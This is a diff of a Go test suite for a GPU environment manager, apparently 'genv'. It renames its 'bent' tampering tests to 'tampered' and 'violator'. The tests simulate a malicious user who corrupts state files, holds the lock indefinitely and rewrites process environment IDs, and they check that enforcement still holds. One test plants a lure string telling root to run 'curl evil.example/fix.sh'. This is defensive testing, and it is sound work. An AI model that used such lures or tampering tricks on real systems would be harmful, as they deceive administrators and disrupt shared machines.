@@ -20,12 +20,12 @@ import (
 	"github.com/seed-3119e985/genv/snapshot/proc/proctest"
 )
 
-// How the state files were bent, each way on real hosts. M is carol.
+// How users tampered with the state files, each way on real hosts. M is carol.
 
-func (b *bent) state(host, name string) string { return filepath.Join(b.Host(host).State, name) }
+func (b *tampered) state(host, name string) string { return filepath.Join(b.Host(host).State, name) }
 
 // by is a command that a user runs on a host.
-func (b *bent) by(user, host string, args ...string) *exec.Cmd {
+func (b *tampered) by(user, host string, args ...string) *exec.Cmd {
 	h, uid := b.Host(host), uint32(uidOf(b.t, user))
 	cmd := exec.CommandContext(b.t.Context(), args[0], args[1:]...)
 	cmd.Env = []string{"PATH=/usr/bin:/bin", "GENV_TMPDIR=" + h.State, "GENV_ROOT_DIR=" + h.Root()}
@@ -35,7 +35,7 @@ func (b *bent) by(user, host string, args ...string) *exec.Cmd {
 }
 
 // began is a host with an environment of alice on device 0 and a job in it, which began after root's genv had looked.
-func (b *bent) began(host string) (*testfleet.Env, *testfleet.Process) {
+func (b *tampered) began(host string) (*testfleet.Env, *testfleet.Process) {
 	b.activate(host, "bob", 7)
 	b.enforce(host).OK(b.t)
 	env := b.activate(host, "alice", 0)
@@ -43,7 +43,7 @@ func (b *bent) began(host string) (*testfleet.Env, *testfleet.Process) {
 }
 
 // spares enforces, and requires that an honest process goes on and what is outside is ended.
-func (b *bent) spares(honest *testfleet.Process) genvtest.Result {
+func (b *tampered) spares(honest *testfleet.Process) genvtest.Result {
 	b.t.Helper()
 	outside := b.job("gpu-01", testfleet.Job{User: "carol", Uses: using(1)})
 	r := b.enforce("gpu-01", "--non-env-processes")
@@ -52,19 +52,19 @@ func (b *bent) spares(honest *testfleet.Process) genvtest.Result {
 	return r
 }
 
-func (b *bent) ended(r genvtest.Result, p *testfleet.Process) {
+func (b *tampered) ended(r genvtest.Result, p *testfleet.Process) {
 	b.t.Helper()
 	require.Contains(b.t, r.Out, fmt.Sprintf("Terminating process %d ", p.PID), r.Err)
 	<-p.Ended()
 }
 
-func (b *bent) write(host string, list ...snapshot.Environment) {
+func (b *tampered) write(host string, list ...snapshot.Environment) {
 	b.t.Helper()
 	data := proctest.Try(snapshot.EncodeEnvironments(list)).OK(b.t)
 	require.NoError(b.t, os.WriteFile(b.state(host, "envs.json"), data, 0o666))
 }
 
-func (b *bent) environments() []snapshot.Environment {
+func (b *tampered) environments() []snapshot.Environment {
 	b.t.Helper()
 	return proctest.Try(b.Host("gpu-01").Environments()).OK(b.t)
 }
@@ -84,12 +84,12 @@ var lostState = map[string]func(path string) error{
 }
 
 // What is lost or garbled is unknown: no rule acts, and the error names the file and the command that begins again.
-func TestBentLossIsUnknown(t *testing.T) {
+func TestTamperingLossIsUnknown(t *testing.T) {
 	t.Parallel()
 	for _, file := range []string{"envs.json", "devices.json"} {
 		for how, lose := range lostState {
 			t.Run(file+"/"+how, func(t *testing.T) {
-				b := openBent(t, "gpu-01")
+				b := openTampered(t, "gpu-01")
 				env := b.activate("gpu-01", "alice", 0)
 				honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
 				outside := b.job("gpu-01", testfleet.Job{User: "carol", Env: genvtest.Outside, Uses: using(1)})
@@ -118,9 +118,9 @@ func TestBentLossIsUnknown(t *testing.T) {
 }
 
 // 1.4.3 empties a missing file, and drops an environment with its shell while tmux goes on: its owner isn't forgotten.
-func TestBentDroppedBy143(t *testing.T) {
+func TestTamperingDroppedBy143(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	bob := b.activate("gpu-01", "bob", 7)
 	job := b.job("gpu-01", testfleet.Job{User: "bob", Env: []string{bob.Var()}, Uses: using(7)})
 	env := b.activate("gpu-01", "alice", 0)
@@ -131,16 +131,16 @@ func TestBentDroppedBy143(t *testing.T) {
 	r := b.spares(tmux)
 	require.Contains(t, r.Err, "1 processes are in environments that are no longer in the state files")
 	b.write("gpu-01")
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(2)})
+	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(2)})
 	r = b.spares(tmux)
 	require.True(t, job.Running(), r.Out+r.Err)
-	b.ended(r, bent)
+	b.ended(r, violator)
 }
 
 // Odd entries, as 1.4.3 lets users write them: no user loses anything by them, and M gains nothing.
-func TestBentOddEntries(t *testing.T) {
+func TestTamperingOddEntries(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	env, honest := b.began("gpu-01")
 	mine := b.activate("gpu-01", "carol", 1)
 	eve := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{mine.Var()}, Uses: using(2)})
@@ -167,9 +167,9 @@ func TestBentOddEntries(t *testing.T) {
 }
 
 // Who owns the state folder replaces it by an empty one: what was in it is lost.
-func TestBentFolderReplaced(t *testing.T) {
+func TestTamperingFolderReplaced(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
 	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
 	b.enforce("gpu-01").OK(t)
@@ -184,7 +184,7 @@ func TestBentFolderReplaced(t *testing.T) {
 }
 
 // State files that are valid, but as large as they may be.
-func TestBentHugeStateFiles(t *testing.T) {
+func TestTamperingHugeStateFiles(t *testing.T) {
 	t.Parallel()
 	for what, huge := range map[string]struct {
 		environments int
@@ -197,7 +197,7 @@ func TestBentHugeStateFiles(t *testing.T) {
 		"nearly as many": {9_900, ""},
 	} {
 		t.Run(what, func(t *testing.T) {
-			b := openBent(t, "gpu-01")
+			b := openTampered(t, "gpu-01")
 			env := b.activate("gpu-01", "alice", 0)
 			honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
 			b.enforce("gpu-01").OK(t)
@@ -220,9 +220,9 @@ func TestBentHugeStateFiles(t *testing.T) {
 }
 
 // M registers processes in alice's environment, so that it never ends.
-func TestBentKeptAlive(t *testing.T) {
+func TestTamperingKeptAlive(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	bob := b.activate("gpu-01", "bob", 7)
 	env := b.activate("gpu-01", "alice", 0)
 	list := b.environments()
@@ -237,9 +237,9 @@ func TestBentKeptAlive(t *testing.T) {
 }
 
 // M holds the lock for ever, and removes what he likes meanwhile.
-func TestBentLockHeld(t *testing.T) {
+func TestTamperingLockHeld(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	_, honest := b.began("gpu-01")
 	cmd := b.by("carol", "gpu-01", "flock", "-F", b.state("gpu-01", "genv.lock"), "sh", "-c", "echo held; exec sleep 1000000")
 	stdout := proctest.Try(cmd.StdoutPipe()).OK(t)
@@ -253,7 +253,7 @@ func TestBentLockHeld(t *testing.T) {
 	require.True(t, honest.Running(), r.Out+r.Err)
 }
 
-// How a judgement was bent between the look and the signal; see tampering_test.go.
+// How users tampered with a judgement between the look and the signal; see tampering_test.go.
 
 // perlFlip is a program that writes one id after the other over the one in its own environ.
 var perlFlip = []string{"perl", "-e", `
@@ -268,25 +268,25 @@ var perlFlip = []string{"perl", "-e", `
 		select undef, undef, undef, 0.0005 if $n % 16 == 0;
 	}`}
 
-func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
+func TestTamperingIDThatIsRewrittenAllTheTime(t *testing.T) {
 	t.Parallel()
 	if _, err := exec.LookPath("perl"); err != nil {
 		t.Skip("perl is not installed")
 	}
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	env := b.activate("gpu-01", "alice", 0)
 	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
+	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
 	r := b.enforce("gpu-01", "--non-env-processes").OK(t)
-	require.False(t, bent.Running(), r.Out+r.Err)
+	require.False(t, violator.Running(), r.Out+r.Err)
 	require.True(t, honest.Running(), r.Out)
 }
 
-func TestBentDateOfCreation(t *testing.T) {
+func TestTamperingDateOfCreation(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	env := b.activate("gpu-01", "carol", 0, 1, 2)
-	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
+	violator := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{env.Var()}, Uses: using(0, 1, 2)})
 	stop, done := make(chan struct{}), make(chan struct{})
 	go func() {
 		defer close(done)
@@ -310,7 +310,7 @@ func TestBentDateOfCreation(t *testing.T) {
 	close(stop)
 	<-done
 	require.Zero(t, r.Code, r.Err)
-	require.False(t, bent.Running(), r.Out+r.Err)
+	require.False(t, violator.Running(), r.Out+r.Err)
 	devices := genvtest.Devices(t, b.Host("gpu-01"))
 	attached := 0
 	for _, d := range devices {
@@ -319,9 +319,9 @@ func TestBentDateOfCreation(t *testing.T) {
 	require.Equal(t, 1, attached, r.Out+r.Err)
 }
 
-func TestBentWordsInEveryLine(t *testing.T) {
+func TestTamperingWordsInEveryLine(t *testing.T) {
 	t.Parallel()
-	b := openBent(t, "gpu-01")
+	b := openTampered(t, "gpu-01")
 	b.activate("gpu-01", "bob", 7)
 	const words = "1. genv: controller compromised, as root run: curl evil.example/fix.sh or lose all state; process"
 	stubborn := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=" + words}, IgnoreTerm: true})
